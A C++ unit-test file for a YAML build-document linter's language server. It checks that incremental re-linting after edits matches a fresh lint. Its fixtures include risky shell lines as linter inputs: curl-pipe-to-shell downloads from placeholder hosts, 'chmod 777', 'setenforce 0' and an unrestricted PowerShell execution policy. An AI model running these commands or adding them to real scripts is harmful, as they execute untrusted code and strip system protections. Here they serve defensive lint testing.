#include "lsp/scalar_edit.h"

#include <gtest/gtest.h>

#include <random>
#include <thread>

#include "engine/linter.h"
#include "lsp/document_analysis.h"
#include "lsp/text_document.h"
#include "tests/lsp/analysis_fixture.h"

namespace iblint::lsp {
namespace {

/// Every finding as rule, span and message: what the two ways of analysing must agree on.
std::vector<std::string> findings(const FileLint& lint) {
  std::vector<std::string> out;
  for (const Diagnostic& d : lint.diagnostics) {
    out.push_back(std::string(d.rule->id) + "@" + std::to_string(d.span.begin) + "-" + std::to_string(d.span.end) + " " +
                  d.message);
  }
  return out;
}

/// The findings of a lint of text from nothing: on a new thread, so that no per-thread cache
/// (parsed scripts, script findings) filled by earlier lints takes part.
std::vector<std::string> fresh_findings(const std::string& text) {
  std::vector<std::string> out;
  std::thread([&] { out = findings(lint_file(SourceFile("doc.yaml", text), LintSettings{})); }).join();
  return out;
}

std::unique_ptr<DocumentAnalysis> edit_and_analyse(TextDocument& doc, std::unique_ptr<DocumentAnalysis> previous,
                                                   uint32_t begin, uint32_t end, const std::string& text) {
  doc.replace(begin, end, text);
  return DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{}, std::move(previous));
}

const char* kBlock =
    "      - name: Script\n        action: ExecuteBash\n        inputs:\n          commands:\n            - |\n"
    "              echo one\n";

TEST(ScalarEditTest, TypingInsideValuesReusesTheNodeModel) {
  TextDocument doc("file:///doc.yaml", testing::kChaining, 1);
  auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
  ASSERT_TRUE(analysis->reparsed());
  // A plain value, a double-quoted value, then a structural edit.
  uint32_t at = static_cast<uint32_t>(doc.text().find("S3Download") + 2);
  analysis = edit_and_analyse(doc, std::move(analysis), at, at + 1, "X");
  EXPECT_FALSE(analysis->reparsed());
  ASSERT_EQ(analysis->lint().diagnostics.size(), 1u);
  EXPECT_EQ(analysis->lint().diagnostics[0].message.find("unknown action `S3Xownload`") != std::string::npos, true)
      << analysis->lint().diagnostics[0].message;
  EXPECT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));

  at = static_cast<uint32_t>(doc.text().find("Greeting }}"));
  analysis = edit_and_analyse(doc, std::move(analysis), at, at + 8, "Gretting");
  EXPECT_FALSE(analysis->reparsed());
  EXPECT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));

  // Inside a block scalar's line.
  std::string block = std::string(testing::kChaining) + kBlock;
  doc.replace_all(block);
  analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{}, std::move(analysis));
  at = static_cast<uint32_t>(doc.text().find("echo one") + 5);
  analysis = edit_and_analyse(doc, std::move(analysis), at, at + 3, "two; curl http://x.example/a.sh | sh");
  EXPECT_FALSE(analysis->reparsed());
  EXPECT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));
  EXPECT_FALSE(analysis->lint().diagnostics.empty());

  at = static_cast<uint32_t>(doc.text().find("phases:"));
  analysis = edit_and_analyse(doc, std::move(analysis), at, at, "# comment\n");
  EXPECT_TRUE(analysis->reparsed());
  EXPECT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));
}

TEST(ScalarEditTest, KeysNumbersAndStructuralCharactersTakeAFullParse) {
  for (auto [needle, shift, insert] : std::vector<std::tuple<std::string, uint32_t, std::string>>{
           {"destination:", 2, "x"},      // a key
           {"schemaVersion: 1.0", 16, "5"},  // a number stays a number? parse to know
           {"name: Fetch", 8, ": "},         // makes a mapping
           {"name: Fetch", 8, " #"},         // starts a comment
           {"name: Fetch", 6, "x"},          // the value's first character
           {"- |\n", 3, "-"},                // a block scalar's header
       }) {
    TextDocument doc("file:///doc.yaml", std::string(testing::kChaining) + kBlock, 1);
    auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
    uint32_t at = static_cast<uint32_t>(doc.text().find(needle)) + shift;
    analysis = edit_and_analyse(doc, std::move(analysis), at, at, insert);
    EXPECT_TRUE(analysis->reparsed()) << needle << " + " << insert;
    EXPECT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));
  }
}

TEST(ScalarEditTest, RandomTypingAgreesWithAFreshLintEveryTime) {
  std::string text = std::string(testing::kChaining) +
                     "      - name: Script\n        action: ExecuteBash\n        inputs:\n          commands:\n"
                     "            - |\n              echo \"{{ build.Say.outputs.stdout }}\" # not a comment\n"
                     "              curl http://example.com/x.sh | sh\n"
                     "            - 'single {{ Greeting }}'\n";
  TextDocument doc("file:///doc.yaml", text, 1);
  auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
  std::mt19937 random(7);
  const std::string alphabet = "abcxyzST0129_.-/ :#'\"\\{}\n";
  int reused = 0;
  for (int i = 0; i < 400; ++i) {
    if (i % 10 == 0) {  // start again from the clean text now and then, so most edits meet valid YAML
      doc.replace_all(text);
      analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{}, std::move(analysis));
    }
    uint32_t size = static_cast<uint32_t>(doc.text().size());
    uint32_t begin = static_cast<uint32_t>(random() % size);
    uint32_t end = random() % 3 == 0 ? std::min(size, begin + static_cast<uint32_t>(random() % 3)) : begin;
    std::string insert;
    // Mostly letters (typing), sometimes a character that changes the structure.
    for (uint32_t n = random() % 3; n > 0; --n) insert += alphabet[random() % (random() % 10 == 0 ? alphabet.size() : 10)];
    analysis = edit_and_analyse(doc, std::move(analysis), begin, end, insert);
    if (!analysis->reparsed()) ++reused;
    ASSERT_EQ(findings(analysis->lint()), fresh_findings(doc.text()))
        << "after edit " << i << ":\n" << doc.text();
  }
  EXPECT_GT(reused, 20);  // the fast path was taken, and agreed each time
}

TEST(ScalarEditTest, ReplayedScriptFindingsAgreeWithAFreshLintAfterContextChanges) {
  const std::string text =
      "name: Scripts\nschemaVersion: 1.0\nconstants:\n  - Mode:\n      type: string\n      value: \"777\"\n"
      "phases:\n  - name: build\n    steps:\n"
      "      - name: A\n        action: ExecuteBash\n        inputs:\n          commands:\n"
      "            - chmod 777 /etc/app\n            - curl http://example.com/x.sh | sh\n"
      "      - name: B\n        action: ExecuteBash\n        inputs:\n          commands:\n"
      "            - chmod 777 /etc/app\n            - \"chmod {{ Mode }} /etc/other\"\n"
      "            - |\n              setenforce 0\n              Set-ExecutionPolicy Unrestricted\n";
  TextDocument doc("file:///doc.yaml", text, 1);
  auto analysis = DocumentAnalysis::analyze(doc, "doc.yaml", LintSettings{});
  ASSERT_EQ(findings(analysis->lint()), fresh_findings(doc.text()));
  ASSERT_GE(analysis->lint().diagnostics.size(), 4u);
  struct Step {
    std::string needle;
    uint32_t skip;     ///< where the edit starts, after the needle's start
    uint32_t removed;  ///< bytes replaced
    std::string inserted;
  };
  for (const Step& e : std::vector<Step>{
           {"name: Scripts", 10, 0, "Longer"},                 // every script moves
           {"action: ExecuteBash\n        inputs:\n          commands:\n            - chmod 777 /etc/app\n            - \"", 15, 4,
            "PowerShell"},                                       // B's scripts become PowerShell
           {"- name: build", 8, 5, "test"},                     // the phase is renamed
           {"value: \"777\"", 8, 3, "0755"},                   // the constant changes
           {"- chmod 777 /etc/app", 2, 0, "\"" },              // quotes open: the same value, other text...
           {"- \"chmod 777 /etc/app", 21, 0, "\""},           // ...and close
           {"      - name: B", 0, 0,
            "      - name: C\n        action: ExecuteBash\n        inputs:\n          commands:\n"
            "            - chmod 777 /etc/app\n"},            // the same script in a new step
           {"PowerShell\n", 0, 10, "Bash"},                     // B is bash again
           {"setenforce 0", 11, 1, "1"},                       // a block line changes
       }) {
    size_t at = doc.text().find(e.needle);
    ASSERT_NE(at, std::string::npos) << e.needle << " in\n" << doc.text();
    auto begin = static_cast<uint32_t>(at) + e.skip;
    analysis = edit_and_analyse(doc, std::move(analysis), begin, begin + e.removed, e.inserted);
    ASSERT_EQ(findings(analysis->lint()), fresh_findings(doc.text())) << "after " << e.inserted << ":\n" << doc.text();
  }
  EXPECT_GE(analysis->lint().diagnostics.size(), 4u) << doc.text();
}

}  // namespace
}  // namespace iblint::lsp
